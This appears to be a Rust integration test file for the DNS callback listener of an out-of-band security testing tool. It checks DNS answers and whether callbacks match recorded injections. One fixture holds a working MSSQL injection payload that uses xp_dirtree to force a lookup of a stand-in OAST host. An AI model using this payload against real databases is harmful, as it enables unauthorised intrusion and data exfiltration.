//! Integration tests for the DNS callback listener

mod common;

use common::{sample_injection, temp_store};
use ricochet::listener::{dns_server, shutdown_channel};
use ricochet::store::Store;
use std::time::Duration;
use tokio::net::UdpSocket;

/// Builds a query packet for `name` with the given QTYPE.
fn build_query(txn_id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut packet = Vec::new();
    packet.extend_from_slice(&txn_id.to_be_bytes());
    packet.extend_from_slice(&0x0100u16.to_be_bytes()); // RD
    packet.extend_from_slice(&1u16.to_be_bytes()); // QDCOUNT
    packet.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        packet.push(label.len() as u8);
        packet.extend_from_slice(label.as_bytes());
    }
    packet.push(0);
    packet.extend_from_slice(&qtype.to_be_bytes());
    packet.extend_from_slice(&1u16.to_be_bytes()); // IN
    packet
}

async fn spawn_listener(store: Store) -> (u16, tokio::sync::watch::Sender<bool>) {
    let probe = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
    let port = probe.local_addr().expect("addr").port();
    drop(probe);

    let (tx, rx) = shutdown_channel();
    tokio::spawn(async move {
        if let Err(e) = dns_server::run_dns_listener("127.0.0.1", port, store, rx).await {
            eprintln!("dns listener error: {e}");
        }
    });
    tokio::time::sleep(Duration::from_millis(150)).await;
    (port, tx)
}

async fn exchange(port: u16, packet: &[u8]) -> Option<Vec<u8>> {
    let socket = UdpSocket::bind("127.0.0.1:0").await.expect("client bind");
    socket
        .send_to(packet, ("127.0.0.1", port))
        .await
        .expect("send");
    let mut buf = [0u8; 512];
    match tokio::time::timeout(Duration::from_secs(1), socket.recv_from(&mut buf)).await {
        Ok(Ok((len, _))) => Some(buf[..len].to_vec()),
        _ => None,
    }
}

// ── answer shape ──

#[tokio::test]
async fn test_a_query_answered_with_loopback() {
    let (store, _dir) = temp_store().await;
    let (port, _tx) = spawn_listener(store).await;

    let query = build_query(0xBEEF, "bbbbbbbbbbbbbbbb.oast.example", 1);
    let response = exchange(port, &query).await.expect("response");

    assert_eq!(&response[..2], &0xBEEFu16.to_be_bytes(), "txn id echoed");
    assert_eq!(response[2] & 0x80, 0x80, "QR set");
    assert_eq!(response[3] & 0x0F, 0, "RCODE NOERROR");
    assert_eq!(
        u16::from_be_bytes([response[6], response[7]]),
        1,
        "exactly one answer"
    );
    assert_eq!(&response[response.len() - 4..], &[127, 0, 0, 1]);
}

#[tokio::test]
async fn test_non_a_query_gets_empty_noerror() {
    let (store, _dir) = temp_store().await;
    let (port, _tx) = spawn_listener(store).await;

    let query = build_query(0x0001, "bbbbbbbbbbbbbbbb.oast.example", 16); // TXT
    let response = exchange(port, &query).await.expect("response");

    assert_eq!(u16::from_be_bytes([response[6], response[7]]), 0, "no answers");
    assert_eq!(response[3] & 0x0F, 0, "still NOERROR");
}

#[tokio::test]
async fn test_answer_identical_for_unknown_token() {
    let (store, _dir) = temp_store().await;
    store
        .record_injection(&sample_injection("bbbbbbbbbbbbbbbb", None))
        .await
        .unwrap();
    let (port, _tx) = spawn_listener(store).await;

    let known = exchange(port, &build_query(7, "bbbbbbbbbbbbbbbb.oast.example", 1))
        .await
        .expect("response");
    let unknown = exchange(port, &build_query(7, "ffffffffffffffff.oast.example", 1))
        .await
        .expect("response");

    // Same flags, same counts, same answer; only the echoed QNAME differs.
    assert_eq!(&known[2..12], &unknown[2..12]);
    assert_eq!(&known[known.len() - 4..], &unknown[unknown.len() - 4..]);
}

#[tokio::test]
async fn test_malformed_packet_dropped_silently() {
    let (store, _dir) = temp_store().await;
    let (port, _tx) = spawn_listener(store).await;

    assert!(
        exchange(port, &[0xFF, 0x00, 0x01]).await.is_none(),
        "short packet must get no response at all"
    );
}

// ── recording discipline ──

#[tokio::test]
async fn test_dns_callback_recorded_as_finding() {
    let (store, _dir) = temp_store().await;
    let mut injection = sample_injection("bbbbbbbbbbbbbbbb", Some("sqli:mssql"));
    injection.payload = "'; exec master..xp_dirtree '\\\\bbbbbbbbbbbbbbbb.oast.example\\x'--".into();
    store.record_injection(&injection).await.unwrap();
    let (port, _tx) = spawn_listener(store.clone()).await;

    exchange(port, &build_query(2, "bbbbbbbbbbbbbbbb.oast.example", 1))
        .await
        .expect("response");
    tokio::time::sleep(Duration::from_millis(150)).await;

    let callbacks = store
        .get_callbacks_for_injection("bbbbbbbbbbbbbbbb")
        .await
        .unwrap();
    assert_eq!(callbacks.len(), 1);
    assert_eq!(callbacks[0].request_path, "DNS:bbbbbbbbbbbbbbbb.oast.example");
    assert_eq!(callbacks[0].headers.get("qtype").map(String::as_str), Some("1"));
    assert!(callbacks[0].body.is_none());

    let findings = store.get_findings(None, None).await.unwrap();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity(), ricochet::models::Severity::High);
}

#[tokio::test]
async fn test_uppercase_first_label_is_case_folded() {
    let (store, _dir) = temp_store().await;
    store
        .record_injection(&sample_injection("bbbbbbbbbbbbbbbb", None))
        .await
        .unwrap();
    let (port, _tx) = spawn_listener(store.clone()).await;

    exchange(port, &build_query(3, "BBBBBBBBBBBBBBBB.oast.example", 1))
        .await
        .expect("response");
    tokio::time::sleep(Duration::from_millis(150)).await;

    assert_eq!(
        store
            .get_callbacks_for_injection("bbbbbbbbbbbbbbbb")
            .await
            .unwrap()
            .len(),
        1,
        "0x20-randomized queries still correlate"
    );
}

#[tokio::test]
async fn test_unknown_token_answered_but_not_stored() {
    let (store, _dir) = temp_store().await;
    let (port, _tx) = spawn_listener(store.clone()).await;

    exchange(port, &build_query(4, "ffffffffffffffff.oast.example", 1))
        .await
        .expect("a response still goes out");
    tokio::time::sleep(Duration::from_millis(150)).await;

    assert!(store.get_findings(None, None).await.unwrap().is_empty());
}

#[tokio::test]
async fn test_single_label_token_accepted() {
    let (store, _dir) = temp_store().await;
    store
        .record_injection(&sample_injection("bbbbbbbbbbbbbbbb", None))
        .await
        .unwrap();
    let (port, _tx) = spawn_listener(store.clone()).await;

    // A bare 16-byte name: one label that is exactly the token.
    exchange(port, &build_query(5, "bbbbbbbbbbbbbbbb", 1))
        .await
        .expect("response");
    tokio::time::sleep(Duration::from_millis(150)).await;

    assert_eq!(
        store
            .get_callbacks_for_injection("bbbbbbbbbbbbbbbb")
            .await
            .unwrap()
            .len(),
        1
    );
}
